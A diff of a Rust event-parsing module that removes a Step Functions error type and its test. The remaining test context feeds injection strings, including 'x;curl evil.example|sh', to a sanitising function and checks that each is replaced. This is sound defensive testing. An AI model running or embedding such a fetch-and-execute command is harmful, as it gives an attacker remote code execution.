@@ -1,6 +1,5 @@
 //! Strict parsing of events from people, pipelines and state machines; errors name the field.
 
-use serde::Deserialize;
 use serde::de::DeserializeOwned;
 use serde_json::Value;
 
@@ -40,37 +39,8 @@ pub fn parse<T: DeserializeOwned>(value: Value) -> Result<T, InvalidEvent> {
 
 pub use policy::is_line;
 
-/// The error output of a state: what ended the state machine's execution.
-#[derive(Clone, Debug, Deserialize, Eq, PartialEq)]
-#[serde(from = "ErrorOutput")]
-pub struct Broken {
-    /// The stable kind of a function's failure, or Step Functions' own error name, e.g. `States.Timeout`.
-    pub kind: String,
-    /// The error's message.
-    pub detail: String,
-}
-
-#[derive(Deserialize)]
-struct ErrorOutput {
-    #[serde(rename = "Error")]
-    error: String,
-    #[serde(rename = "Cause", default)]
-    cause: String,
-}
-
-impl From<ErrorOutput> for Broken {
-    /// For a function's error, the cause is its error response as JSON text.
-    fn from(ErrorOutput { error, cause }: ErrorOutput) -> Self {
-        let answer: Value = serde_json::from_str(&cause).unwrap_or_default();
-        let said = answer.get("errorMessage").and_then(Value::as_str).map(str::to_owned);
-        Self { kind: error, detail: said.unwrap_or(cause) }
-    }
-}
-
 #[cfg(test)]
 mod tests {
-    use serde_json::json;
-
     use super::*;
 
     #[test]
@@ -80,15 +50,6 @@ mod tests {
         for id in ["x;curl evil.example|sh;#aaaaaaaaaaaa", "x`y", "x'y", "x y", "$(x)"] {
             assert_eq!(pasted(id), "VERSION_ID");
         }
-    }
-
-    #[test]
-    fn what_a_function_said_is_taken_out_of_the_cause() {
-        for cause in ["why", r#"{"errorType":"EcsCall","errorMessage":"why"}"#] {
-            let broken = parse::<Broken>(json!({"Error": "EcsCall", "Cause": cause}));
-            assert_eq!(broken, Ok(Broken { kind: "EcsCall".to_owned(), detail: "why".to_owned() }));
-        }
-        assert_eq!(parse::<Broken>(json!({"Cause": "why"})).unwrap_err().field, ".");
     }
 
     #[test]
